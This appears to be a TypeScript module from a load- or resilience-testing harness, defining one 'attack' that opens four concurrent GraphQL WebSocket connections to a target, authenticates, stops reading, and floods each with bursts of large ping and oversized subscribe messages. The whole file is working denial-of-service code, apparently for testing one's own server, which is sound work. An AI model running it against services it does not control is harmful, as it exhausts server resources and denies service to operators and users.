import { once } from 'node:events'
import { WebSocket } from 'ws'
import { type Attack, again, atATime, pause } from '../attack.ts'

const refused = JSON.stringify({ id: 'a', type: 'subscribe', payload: { query: `{ ${'x '.repeat(300)} }` } })
const ping = JSON.stringify({ type: 'ping', payload: { filler: 'x'.repeat(2_000) } })

/** WebSockets that ask all the time and read nothing. */
export const attack: Attack = async (attacker, signal) => {
  const { target } = attacker
  await attacker.begin()
  await atATime(signal, 4, async (n) => {
    const socket = new WebSocket(target.url.replace('http', 'ws'), 'graphql-transport-ws')
    const closed = new Promise<void>((resolve) => {
      socket.on('close', () => resolve())
      socket.on('error', () => socket.terminate())
    })
    const ending = AbortSignal.any([signal, AbortSignal.timeout(20_000)])
    try {
      await once(socket, 'open', { signal: ending })
      socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${target.key}` } }))
      await once(socket, 'message', { signal: ending })
      socket.pause()
      await again(ending, 5, async () => {
        if (socket.readyState !== WebSocket.OPEN) throw new Error('closed')
        if (socket.bufferedAmount > 1024 * 1024) return
        for (let each = 0; each < 500; each += 1) socket.send(n % 2 === 0 ? ping : refused)
      })
    } finally {
      socket.terminate()
      await Promise.race([closed, pause(1_000, signal)])
    }
  })
}
